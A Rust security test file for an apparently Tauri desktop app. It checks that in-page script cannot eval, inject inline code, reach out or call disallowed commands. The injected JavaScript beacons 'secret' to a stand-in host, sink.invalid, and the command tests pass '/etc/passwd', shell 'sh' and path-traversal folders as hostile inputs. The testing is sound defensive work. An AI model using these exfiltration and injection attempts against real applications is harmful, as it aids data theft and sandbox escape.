//! What the web engine really enforces in the real window, whoever runs a script in the page.

use crate::window::{Place, Window};
use serde_json::{Value, json};

/// Tries, from inside the page, everything the content policy must stop; gives what happened to each.
const TRY: &str = "
  const blocked = [];
  document.addEventListener('securitypolicyviolation', (event) => blocked.push(event.effectiveDirective + ' ' + event.blockedURI));
  const result = {};
  try { eval('1 + 1'); result.eval = 'ran'; } catch (error) { result.eval = error.name; }
  const script = document.createElement('script');
  script.textContent = 'window.inlineRan = true';
  document.head.append(script);
  result.inlineScript = window.inlineRan === true;
  const style = document.createElement('style');
  style.textContent = 'body { outline-style: dotted }';
  document.head.append(style);
  result.inlineStyle = getComputedStyle(document.body).outlineStyle;
  const picture = new Image();
  picture.src = 'https://sink.invalid/?d=secret';
  const frame = document.createElement('iframe');
  frame.src = 'https://sink.invalid/';
  document.body.append(frame);
  const form = document.createElement('form');
  form.action = 'https://sink.invalid/';
  document.body.append(form);
  form.submit();
  for (const address of ['https://sink.invalid/', 'http://127.0.0.1:9/', 'ws://127.0.0.1:9/']) {
    try { await (address.startsWith('ws') ? new Promise((ok, no) => { const s = new WebSocket(address); s.onopen = ok; s.onerror = no; }) : fetch(address)); result[address] = 'reached'; }
    catch (error) { result[address] = 'stopped'; }
  }
  result.opened = window.open('https://sink.invalid/') !== null;
  result.frozen = Object.isFrozen(Object.prototype);
  result.global = typeof window.__TAURI__;
  result.isolation = getComputedStyle(document.getElementById('__tauri_isolation__')).display;
  location.href = 'https://sink.invalid/';
  await new Promise((later) => setTimeout(later, 300));
  frame.remove(); form.remove();
  result.place = location.origin;
  result.blocked = blocked;
  return result;";

#[test]
fn a47_nothing_in_the_page_can_run_text_or_reach_out() {
    let window = Window::open(Place::new());
    let found = window.driver().run_async(TRY, &[]);
    assert_eq!(found["eval"], "EvalError", "{found}");
    assert_eq!(found["inlineScript"], false, "{found}");
    assert_eq!(found["inlineStyle"], "none", "{found}");
    for address in ["https://sink.invalid/", "http://127.0.0.1:9/", "ws://127.0.0.1:9/"] {
        assert_eq!(found[address], "stopped", "{found}");
    }
    assert_eq!(found["opened"], false, "{found}");
    assert_eq!(found["frozen"], true, "{found}");
    assert_eq!(found["global"], "undefined", "{found}");
    assert_eq!(found["isolation"], "none", "the isolation frame is hidden: {found}");
    assert_eq!(found["place"], "tauri://localhost", "{found}");
    let blocked: Vec<&str> = found["blocked"].as_array().unwrap().iter().filter_map(Value::as_str).collect();
    for directive in ["script-src", "style-src", "img-src", "connect-src", "frame-src", "form-action"] {
        assert!(
            blocked.iter().any(|entry| entry.starts_with(directive)),
            "{directive} stopped nothing: {blocked:?}"
        );
    }
}

#[test]
fn a67_the_page_reaches_four_commands_and_no_plugin() {
    let window = Window::open(Place::new());
    let reached = window.command("app", Value::Null);
    assert_eq!(reached["platform"], "linux", "{reached}");
    for command in [
        "plugin:fs|read_text_file",
        "plugin:dialog|open",
        "plugin:shell|execute",
        "plugin:event|listen",
        "plugin:event|emit",
        "plugin:window|close",
        "plugin:webview|create_webview_window",
        "plugin:app|version",
        "plugin:path|resolve_directory",
        "plugin:window-state|save_window_state",
        "run_command",
        "toString",
        "__proto__",
    ] {
        let refused = window.invoke(command, &json!({"path": "/etc/passwd", "program": "sh"}));
        assert!(refused.as_ref().is_err_and(|why| why.contains("not allowed")), "{command}: {refused:?}");
    }
    for payload in [
        json!({}),
        json!({"command": {"name": "app"}, "more": 1}),
        json!({"command": {"name": "read_file", "args": {"path": "/etc/passwd"}}}),
        json!({"command": {"name": "create_session", "args": {"folder": "/etc", "mode": "auto", "model": null}}}),
        json!({"command": {"name": "create_session", "args": {"folder": "../..", "mode": "auto", "model": null}}}),
        json!({"command": "x".repeat(2 * 1024 * 1024)}),
    ] {
        let refused = window.invoke("call", &payload);
        let why = refused.expect_err("refused");
        assert_ne!(why, "no answer", "{}", payload.to_string().chars().take(80).collect::<String>());
    }
}
